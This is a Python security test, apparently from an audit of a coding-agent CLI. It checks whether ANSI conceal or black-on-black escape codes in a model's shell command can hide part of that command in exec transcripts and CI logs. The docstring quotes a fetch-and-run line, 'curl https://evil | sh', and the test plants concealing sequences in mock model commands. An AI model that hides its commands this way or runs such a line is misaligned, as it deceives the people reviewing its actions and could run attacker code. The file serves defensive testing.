#!/usr/bin/env python3
"""04: terminal_safe keeps every SGR sequence (ESC[...m) "for colours", and `codex exec` prints
the model's own command line through it.  SGR 8 (conceal) or black-on-black (30;40) therefore
hide the rest of a command in the exec transcript / CI log: the user reads
`exec echo 'build ok` while `; curl https://evil | sh` also ran.  (The REPL's approval question
uses _reveal_hidden_chars and shows the ESC: it held.)  The model's argv, workdir and patch
paths are not a program's coloured output: they should be shown with every ESC escaped.
Exit 1 while vulnerable (a raw ESC[8m or ESC[30;40m from the model's argv reaches codex's output), 0 otherwise."""
import os, shutil, subprocess, sys, tempfile
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import harness

root = tempfile.mkdtemp(prefix="a4-04-", dir="/var/tmp")
home, ch, ws = (os.path.join(root, d) for d in ("home", "codexhome", "ws"))
for d in (home, ch, ws):
    os.makedirs(d)
CMD = "echo build ok \x1b[8m; echo HIDDEN-PART-RAN \x1b[0m"
CMD2 = "true \x1b[30;40m && echo ALSO-HIDDEN\x1b[0m"
srv = harness.serve(harness.script([("shell", {"command": ["bash", "-lc", CMD]}),
                                    ("shell", {"command": ["bash", "-lc", CMD2]})]))
harness.write_config(ch, srv, 'sandbox_mode = "workspace-write"\napproval_policy = "never"')
env = dict(os.environ, HOME=home, CODEX_HOME=ch, X_KEY="dummy")
try:
    p = subprocess.run([harness.CODEX, "exec", "--skip-git-repo-check", "-C", ws, "hi"], env=env,
                       capture_output=True, timeout=120)
except subprocess.TimeoutExpired:
    print("timeout"); sys.exit(2)
finally:
    srv.shutdown()
    shutil.rmtree(root, ignore_errors=True)
out = p.stdout + p.stderr
lines = [l for l in out.split(b"\n") if b"\x1b[8m" in l or b"\x1b[30;40m" in l]
for l in lines[:4]:
    print(repr(l))
if lines:
    print("VULNERABLE: the model's command line reaches the terminal with a concealing SGR sequence")
    sys.exit(1)
print("held"); sys.exit(0)
